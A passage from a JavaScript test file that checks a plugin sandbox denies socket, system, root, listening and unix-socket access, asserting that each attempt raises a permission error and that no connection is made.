      }
    })();
    const plugin = await loadAt(mod, "asker");
    try {
      const cases = [
        ["request", "read"],
        ["sys", "sys"],
        ["root", "read"],
        ["listen", "net"], // no listening socket to take orders on
        ["unix", "read"], // no unix socket (a container daemon's, say)
      ];
      for (const [how, permission] of cases) {
        const e = await plugin.fetch(request({ how, path: sock })).catch((e) => e);
        assert.ok(e instanceof PluginPermissionError, `${how}: ${text(e)}`);
        assert.equal(e.permission, permission, how);
      }
      assert.equal(connections, 0);
    } finally {
      listener.close();
      await plugin.close();
    }
  } finally {
    await ws.close();
  }
});
